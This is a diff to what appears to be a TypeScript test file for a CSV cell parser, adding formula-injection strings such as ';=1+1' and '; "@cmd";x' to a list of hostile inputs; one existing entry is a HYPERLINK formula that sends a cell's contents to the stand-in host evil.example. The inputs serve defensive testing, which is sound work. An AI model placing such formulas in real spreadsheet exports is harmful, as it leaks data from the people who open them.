@@ -26,6 +26,11 @@ function cellsOf(csv: string, separator: string): string[] {
 }
 
 const hostile = [
+  ';=1+1',
+  '|=1+1',
+  ';;=1+1',
+  '\n\n=1',
+  '; "@cmd";x',
   'Hello;=HYPERLINK("http://evil.example/?"&A1,"Open");x',
   'Hello; "=1+1";x',
   'Hello;"-1',
